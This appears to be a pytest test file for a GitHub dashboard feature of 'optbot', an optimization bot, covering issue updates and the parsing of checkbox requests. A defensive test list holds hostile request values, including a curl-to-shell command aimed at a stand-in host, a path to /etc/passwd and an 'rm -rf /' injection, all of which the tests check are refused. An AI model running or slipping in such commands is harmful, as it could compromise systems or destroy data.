"""The dashboard issue (issue 15 item 5; bot/deliver/dashboard.py): whole runs of `optbot optimize`
(the measuring steps are the doubles of tests/fakes.py; checkout, combine and deliver are real) deliver
through the real PyGithub client to the stand-in on 127.0.0.1, and `optbot dashboard` reads it back."""
from __future__ import annotations

import dataclasses
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from bot.cli import cli
from bot.deliver import dashboard as dash
from bot.deliver.pull_request import PullRequestRef
from bot.errors import OptbotError
from bot.knowledge.records import ValidationRecord, WorkloadVerdict, load_bench, save_bench
from bot.run.context import RunOptions
from bot.run.orchestrator import run_optimize
from tests.conftest import ROOT
from tests.fakes import fake_steps, stack_validator

REPO = "team/engine"
ENTRY = "flux2-merge-qkv"  # a real entry of optbot's store, copied into the test's knowledge repository


def _opts(env, workload: str = "flux2", **kw) -> RunOptions:
    return RunOptions(workload=workload, engine=str(env["engine"].working_tree_dir), preset="tiny", device="cpu",
                      repo=REPO, knowledge_repo="team/optbot", knowledge_path=str(env["knowledge"].working_tree_dir),
                      command=f"optbot optimize {workload}", **kw)


def _run(env, workload: str = "flux2", steps: dict | None = None, **kw):
    fakes = fake_steps(Path(env["knowledge"].working_tree_dir))
    st = run_optimize(_opts(env, workload, **kw), steps={**fakes, **(steps or {})}, validate=stack_validator)
    assert st.finished
    return st


def _ours(standin) -> list[dict]:
    return [i for i in standin.issues(REPO) if dash.MARKER in i["body"] and i["user"]["login"] == "optbot"]


def _section(body: str, workload: str) -> str:
    return next(p.text for p in dash.split(body) if p.workload == workload)


def _with_entry(env) -> Path:
    """The knowledge repository with one real store entry (its workloads: flux2), committed."""
    know = Path(env["knowledge"].working_tree_dir)
    shutil.copytree(ROOT / "kernel_store" / ENTRY, know / "kernel_store" / ENTRY,
                    ignore=shutil.ignore_patterns("bench.json", "__pycache__"))
    env["knowledge"].git.add("-A")
    env["knowledge"].git.commit("-qm", "an entry")
    return know


def _tick(body: str, request: str) -> str:
    line = next(ln for ln in body.splitlines() if ln.endswith(f"<!-- optbot-request: {request} -->"))
    return body.replace(line, line.replace("- [ ]", "- [x]", 1))


# ------------------------------------------------------------------------------------------------
# 1. runs in a row: one issue, a section per workload, everything else kept byte for byte

def test_runs_in_a_row_leave_one_dashboard_issue(standin, forge_env):
    env = forge_env
    s1 = _run(env, "flux2")
    d1 = s1.result("deliver")
    assert d1.dashboard.action == "opened" and d1.dashboard.number is not None
    assert [i["number"] for i in _ours(standin)] == [d1.dashboard.number]
    s2 = _run(env, "qwen-image")
    assert s2.result("deliver").dashboard.action == "updated"
    (issue,) = _ours(standin)
    body2 = issue["body"]
    assert [p.workload for p in dash.split(body2) if p.workload] == ["flux2", "qwen-image"]
    # a person writes around the sections in GitHub's UI, which sends the body back with \r\n line ends
    person = "Maintainers: ping @team before merging.\r\n"
    edited = body2.replace("<!-- optbot-dashboard-section: qwen-image -->",
                           person.replace("\r\n", "\n") + "\n<!-- optbot-dashboard-section: qwen-image -->")
    edited = edited.replace("\n", "\r\n") + "\r\nP.S. a note at the end\r\n"
    standin.edit_issue(REPO, issue["number"], edited)
    qwen_before = _section(edited, "qwen-image")
    assert "\r\n" in qwen_before
    s3 = _run(env, "flux2", trigger_pr=env["trigger_pr"])
    assert s3.result("deliver").dashboard.action == "updated"
    (issue,) = _ours(standin)  # still one issue
    body3 = issue["body"]
    assert _section(body3, "qwen-image") == qwen_before  # the other section, byte for byte (its \r\n kept)
    assert "Maintainers: ping @team before merging.\r\n" in body3 and body3.endswith("P.S. a note at the end\r\n")
    flux = _section(body3, "flux2")
    assert s3.run_id in flux and s1.run_id not in flux  # this run's section replaced the first run's
    # only the flux2 section changed: the pieces around it are the person's edit, unchanged
    others = lambda b: [p.text for p in dash.split(b) if p.workload != "flux2"]  # noqa: E731
    assert others(body3) == others(edited)
    # the section says what the run did: its engine PR, each candidate's verdict
    pr = standin.pulls(REPO, f"optbot/flux2/{env['engine'].head.commit.hexsha[:12]}")[0]
    assert f"[#{pr['number']}]({pr['html_url']}) (open; updated by this run)" in flux
    assert "| c1 | test-double | merge-siblings | - | accepted | 1.111x (cpu) | - |" in flux
    assert "| c2 | test-double | fuse-elementwise-chain | - | accepted | 1.111x (cpu) | - |" in flux
    assert "- [ ] re-run flux2 <!-- optbot-request: rerun flux2 -->" in flux
    (reply,) = [c for c in standin.comments(REPO, env["trigger_pr"]) if c["user"]["login"] == "optbot"]
    assert f"Dashboard: {issue['html_url']}." in reply["body"]  # the reply on the triggering PR links it


def test_a_users_issue_carrying_the_marker_is_left_alone(standin, forge_env, cli_runner, monkeypatch):
    env = forge_env
    bait = (f"{dash.MARKER}\n<!-- optbot-dashboard-section: flux2 -->\n"
            "- [x] re-run flux2 <!-- optbot-request: rerun flux2 -->\n<!-- optbot-dashboard-section-end: flux2 -->\n")
    mallory = standin.add_user_issue(REPO, "optbot dashboard", bait, user="mallory")
    st = _run(env, "flux2")
    d = st.result("deliver").dashboard
    assert d.action == "opened" and d.number != mallory
    assert standin._dash_issues()[(REPO, mallory)]["body"] == bait  # never edited
    assert [(m, p) for m, p in standin.requests if m == "PATCH" and p.endswith(f"/issues/{mallory}")] == []
    # her ticked box is not a request: only the bot's issue is read
    r = cli_runner.invoke(cli, ["dashboard", "requests", "--repo", REPO,
                                "--knowledge-path", str(env["knowledge"].working_tree_dir)])
    assert r.exit_code == 0, r.output
    assert "no ticked box" in r.output and "re-run flux2" not in r.output
    # a token that may not read its login cannot tell the issues apart: it writes none (a note) and reads none
    standin.auth_login = None
    st2 = _run(env, "qwen-image")
    d2 = st2.result("deliver")
    assert d2.dashboard.action == "failed" and "$OPTBOT_GITHUB_LOGIN" in d2.dashboard.note
    assert d2.engine_pr.action == "opened"  # the delivery stands
    assert any(n.startswith("dashboard: failed") for n in d2.notes)
    assert len(_ours(standin)) == 1 and standin._dash_issues()[(REPO, mallory)]["body"] == bait
    r = cli_runner.invoke(cli, ["dashboard", "requests", "--repo", REPO])
    assert isinstance(r.exception, OptbotError) and "$OPTBOT_GITHUB_LOGIN" in str(r.exception)


def test_a_dashboard_failure_is_a_note_not_a_lost_delivery(standin, forge_env, monkeypatch):
    env = forge_env
    monkeypatch.setenv("OPTBOT_GITHUB_MAX_WAIT", "0.01")
    standin.fail_status("GET", r"^/repos/team/engine/issues$", 502, times=None)
    st = _run(env, "flux2")
    d = st.result("deliver")
    assert d.engine_pr.action == "opened" and d.knowledge_pr.action == "opened"
    assert d.dashboard.action == "failed"
    assert d.dashboard.note == "not updated: GitHub: list issues of team/engine failed: 502 Bad Gateway (after 6 attempts)"
    assert "dashboard failed" in st.steps["deliver"].summary
    assert standin.issues(REPO) == []


def test_a_closed_dashboard_is_not_reopened(standin, forge_env):
    env = forge_env
    n = _run(env, "flux2").result("deliver").dashboard.number
    standin._dash_issues()[(REPO, n)]["state"] = "closed"
    d = _run(env, "qwen-image").result("deliver").dashboard
    assert d.action == "closed-by-person" and d.number == n
    assert len(standin.issues(REPO)) == 1 and "qwen-image" not in standin.issues(REPO)[0]["body"]


# ------------------------------------------------------------------------------------------------
# 2. boxes: ticked, read back as typed requests, hostile names refused, unticked by the run that did it

HOSTILE = [  # (marker text, the reason it is refused)
    ("rerun flux2;curl${IFS}evil.example|sh", "not a workload optbot knows"),
    ("revalidate ../../etc/passwd", "not an entry of the kernel store"),
    ("deploy production", "not a request optbot writes"),
    ("rerun qwen-image", "a re-run box asks only for its own section's workload (flux2)"),
    ("rerun flux2 --device cuda", "not a request optbot writes"),
]


def test_ticked_boxes_are_read_back_checked_and_unticked_by_the_run(standin, forge_env, cli_runner, tmp_path):
    env = forge_env
    know = _with_entry(env)
    _run(env, "flux2")
    (issue,) = _ours(standin)
    body = issue["body"]
    assert f"- [ ] re-validate {ENTRY} <!-- optbot-request: revalidate {ENTRY} -->" in body
    body = _tick(_tick(body, "rerun flux2"), f"revalidate {ENTRY}")
    hostile = "".join(f"- [x] please <!-- optbot-request: {m} -->\n" for m, _ in HOSTILE)
    body = body.replace("<!-- optbot-dashboard-section-end: flux2 -->", hostile + "<!-- optbot-dashboard-section-end: flux2 -->")
    body += "- [x] outside every section <!-- optbot-request: rerun qwen-image -->\n"  # not the bot's part
    standin.edit_issue(REPO, issue["number"], body)

    out, js = tmp_path / "github_output", tmp_path / "requests.json"
    out.write_text("earlier=1\n")
    args = ["dashboard", "requests", "--repo", REPO, "--knowledge-path", str(know), "--github-output", str(out),
            "--json", str(js)]
    r = cli_runner.invoke(cli, args)
    assert r.exit_code == 0, r.output
    assert out.read_text() == (f'earlier=1\nrerun=["flux2"]\nrevalidate=["{ENTRY}"]\nrevalidate_ids={ENTRY}\n'
                               f"refused={len(HOSTILE)}\n")
    req = json.loads(js.read_text())
    assert req["rerun"] == ["flux2"] and req["revalidate"] == [ENTRY] and req["source"].endswith(f"/{issue['number']}")
    got = [(x["section"], x["request"], x["reason"]) for x in req["refused"]]
    assert [(s, rq) for s, rq, _ in got] == [("flux2", ascii(m)) for m, _ in HOSTILE]
    for (_, _, reason), (_, want) in zip(got, HOSTILE):
        assert reason.startswith(want)
    assert "refused in section flux2: 'deploy production': not a request optbot writes" in r.output
    # reading unticks nothing
    assert cli_runner.invoke(cli, args).exit_code == 0
    assert _ours(standin)[0]["body"] == body

    # the re-run unticks its own box; the entry's box stays ticked (this run did not re-validate it);
    # the lines a person added inside the bot's section are gone with the section they were in
    _run(env, "flux2")
    after = _section(_ours(standin)[0]["body"], "flux2")
    assert "- [ ] re-run flux2 <!-- optbot-request: rerun flux2 -->" in after
    assert f"- [x] re-validate {ENTRY} <!-- optbot-request: revalidate {ENTRY} -->" in after
    assert "curl" not in after and "deploy" not in after
    assert _ours(standin)[0]["body"].endswith("- [x] outside every section <!-- optbot-request: rerun qwen-image -->\n")

    # a run whose candidate replays the entry, validated now, did the re-validation: unticked too
    fakes = fake_steps(know)

    def generate_from_entry(ctx):
        res = fakes["generate"](ctx)
        res.candidates[0] = dataclasses.replace(res.candidates[0], entry_id=ENTRY)
        return res

    _run(env, "flux2", steps={"generate": generate_from_entry})
    after = _section(_ours(standin)[0]["body"], "flux2")
    assert f"- [ ] re-validate {ENTRY} <!-- optbot-request: revalidate {ENTRY} -->" in after
    assert f"| c1 | test-double | merge-siblings | {ENTRY} | accepted |" in after


def test_the_store_check_unticks_what_it_revalidated(standin, forge_env, cli_runner):
    env = forge_env
    know = _with_entry(env)
    _run(env, "flux2")
    (issue,) = _ours(standin)
    ticked = _tick(_tick(issue["body"], f"revalidate {ENTRY}"), "rerun flux2")
    standin.edit_issue(REPO, issue["number"], ticked)
    r = cli_runner.invoke(cli, ["dashboard", "done", "--repo", REPO, "--revalidated", ENTRY])
    assert r.exit_code == 0 and r.output.startswith("dashboard: updated"), r.output
    body = _ours(standin)[0]["body"]
    assert body == ticked.replace(f"- [x] re-validate {ENTRY}", f"- [ ] re-validate {ENTRY}")  # only that box
    r = cli_runner.invoke(cli, ["dashboard", "requests", "--repo", REPO, "--knowledge-path", str(know)])
    assert r.output.splitlines()[-1] == "re-run flux2"
    r = cli_runner.invoke(cli, ["dashboard", "done", "--repo", REPO, "--revalidated", "x;rm -rf /"])
    assert r.exit_code == 2 and "not a workload or entry name" in r.output


def test_retired_and_held_entries_are_listed(standin, forge_env, monkeypatch):
    """`retired` is the status the nightly store check gives (entry.yaml `retired:` says why); held
    comes from a recorded verdict in bench.json."""
    env = forge_env
    know = _with_entry(env)
    shutil.copytree(know / "kernel_store" / ENTRY, know / "kernel_store" / "flux2-old")
    y = know / "kernel_store" / "flux2-old" / "entry.yaml"
    y.write_text(y.read_text().replace(f"id: {ENTRY}", "id: flux2-old").replace("status: validated-cpu", "status: retired")
                 + "retired:\n  reason: patch does not apply at 0123456789ab\n  engine_sha: 0123456789ab0123456789ab0123456789ab0123\n"
                   "  date: '2026-12-01'\n  by: optbot store check --propose\n")
    bench = load_bench(know / "kernel_store" / ENTRY)
    bench.correctness_section().cpu_validation = ValidationRecord(
        command="optbot store check", recorded_at="2026-12-01T00:00:00Z", device="cpu",
        workloads={"flux2": WorkloadVerdict(status="held", reason="implausible", summary="timings the clock contradicts")})
    save_bench(know / "kernel_store" / ENTRY, bench)
    _run(env, "flux2")
    flux = _section(_ours(standin)[0]["body"], "flux2")
    assert "**Retired entries:**\n- `flux2-old`: retired: patch does not apply at 0123456789ab" in flux
    assert (f"**Held for review:**\n- `{ENTRY}`: cpu verdict held, recorded 2026-12-01T00:00:00Z by "
            f"'optbot store check': timings the clock contradicts") in flux
    assert "- [ ] re-validate flux2-old <!-- optbot-request: revalidate flux2-old -->" in flux


# ------------------------------------------------------------------------------------------------
# 3. the local forge: the same dashboard in a file

def test_the_local_forge_writes_dashboard_md(forge_env, cli_runner, monkeypatch):
    env = forge_env
    monkeypatch.delenv("OPTBOT_GITHUB_TOKEN")
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("GH_TOKEN", raising=False)
    s1 = _run(env, "flux2")
    s2 = _run(env, "qwen-image")
    d = s2.result("deliver")
    assert d.forge == "local" and d.dashboard.action == "local"
    shared = env["tmp"] / "runs" / "dashboard.md"
    copy = s2.run_dir / "dashboard.md"
    assert d.dashboard.url == str(shared) and copy.read_text() == shared.read_text()
    assert (s1.run_dir / "dashboard.md").is_file() and (s1.run_dir / "report.md").is_file()
    body = shared.read_text()
    assert [p.workload for p in dash.split(body) if p.workload] == ["flux2", "qwen-image"]
    assert f"**Optimization PR:** local branch only ({s1.run_dir}/forge/engine-pr.md)" in _section(body, "flux2")
    r = cli_runner.invoke(cli, ["dashboard", "show"])
    assert r.exit_code == 0 and r.stdout.rstrip("\n") == body.rstrip("\n")
    shared.write_text(_tick(body, "rerun qwen-image"))  # a CPU user ticks the box in the file
    r = cli_runner.invoke(cli, ["dashboard", "requests", "--knowledge-path", str(env["knowledge"].working_tree_dir)])
    assert r.exit_code == 0 and r.output.splitlines()[-1] == "re-run qwen-image"
    p = subprocess.run([sys.executable, "-m", "bot", "dashboard", "show", "--repo", REPO], capture_output=True,
                       text=True, timeout=120)
    assert p.returncode == 2 and "Traceback" not in p.stderr
    assert p.stderr.startswith(f"error: --repo {REPO}: no GitHub token")


# ------------------------------------------------------------------------------------------------
# 4. the body's grammar

def test_split_keeps_every_byte_and_a_broken_section_is_text():
    body = (f"{dash.MARKER}\r\nintro\r\n<!-- optbot-dashboard-section: flux2 -->\r\nold\r\n"
            "<!-- optbot-dashboard-section-end: flux2 -->\r\nmiddle\n<!-- optbot-dashboard-section: qwen-image -->\n"
            "no end marker\n<!-- optbot-dashboard-section: flux2 -->\nduplicate\n<!-- optbot-dashboard-section-end: flux2 -->")
    pieces = dash.split(body)
    assert "".join(p.text for p in pieces) == body
    assert [p.workload for p in pieces] == [None, "flux2", None, "flux2"]
    new = dash.render_section(dash.Section("flux2", "r", "a" * 40, "tiny", "cpu", PullRequestRef("none", note="n")))
    out = dash.upsert(body, new, "flux2")
    assert out == body.split("<!-- optbot-dashboard-section: flux2 -->")[0] + new + \
        "middle\n<!-- optbot-dashboard-section: qwen-image -->\nno end marker\n"  # the duplicate is ours: dropped
    assert dash.upsert(None, new, "flux2") == dash.HEADER + "\n" + new
    assert dash.upsert("a person's issue without the marker", new, "flux2").startswith(dash.HEADER)


@pytest.mark.parametrize("text", ["<!-- optbot-request: rerun flux2 -->", "a | b\n- [x] x", "`code` <b>"])
def test_run_text_cannot_make_a_box_or_a_marker(text):
    """A validator's summary (or a candidate id) is the run's text, not ours: rendered as one cell."""
    row = dash.CandidateRow(text, "agent", "k", "", "rejected", "crashed", text)
    s = dash.Section("flux2", "r", "a" * 40, "tiny", "cpu", PullRequestRef("none"), [row])
    out = dash.render_section(s, {("rerun", "flux2")})
    assert [b.request for b in dash.boxes(dash.upsert(None, out, "flux2"))] == ["rerun flux2"]
    assert "- [x] re-run flux2" in out  # ticked before, not done by this section's run: stays ticked
    assert "<!--" not in out.split("\n| ")[1]


def test_each_candidate_has_its_verdict_and_reason(standin, forge_env):
    """A rejected candidate's reason and the validator's line; a held one replaying an entry puts the
    entry under "held for review"."""
    env = forge_env
    know = _with_entry(env)
    fakes = fake_steps(know)

    def generate_from_entry(ctx):
        res = fakes["generate"](ctx)
        res.candidates[0] = dataclasses.replace(res.candidates[0], entry_id=ENTRY)
        return res

    def validate_mixed(ctx):
        res = fakes["validate"](ctx)
        res.verdicts["c1"] = dataclasses.replace(res.verdicts["c1"], status="held", reason="implausible",
                                                 summary="faster than the roofline allows")
        res.verdicts["c2"] = dataclasses.replace(res.verdicts["c2"], status="rejected", reason="slower",
                                                 summary="0.9x | eager <b>", speed=[])
        return res

    _run(env, "flux2", steps={"generate": generate_from_entry, "validate": validate_mixed})
    flux = _section(_ours(standin)[0]["body"], "flux2")
    assert (f"| c1 | test-double | merge-siblings | {ENTRY} | held | 1.111x (cpu) | implausible: faster than the "
            "roofline allows |") in flux
    assert "| c2 | test-double | fuse-elementwise-chain | - | rejected | - | slower: 0.9x \\| eager &lt;b&gt; |" in flux
    assert f"**Held for review:**\n- `{ENTRY}`: held in this run: faster than the roofline allows" in flux
    assert "No candidates" not in flux and "Stack: 0 commit(s)" in flux
